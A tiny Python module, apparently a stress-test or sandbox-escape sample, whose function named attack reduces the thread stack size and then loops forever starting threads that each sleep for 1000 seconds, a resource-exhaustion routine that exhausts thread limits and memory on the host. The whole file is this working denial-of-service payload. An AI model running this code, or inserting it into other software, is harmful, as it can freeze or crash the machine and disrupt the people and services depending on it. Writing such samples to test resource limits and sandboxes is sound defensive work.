"""Starts threads without end."""

import threading
import time


def attack(x):
    threading.stack_size(1 << 16)
    while True:
        threading.Thread(target=time.sleep, args=(1000,)).start()
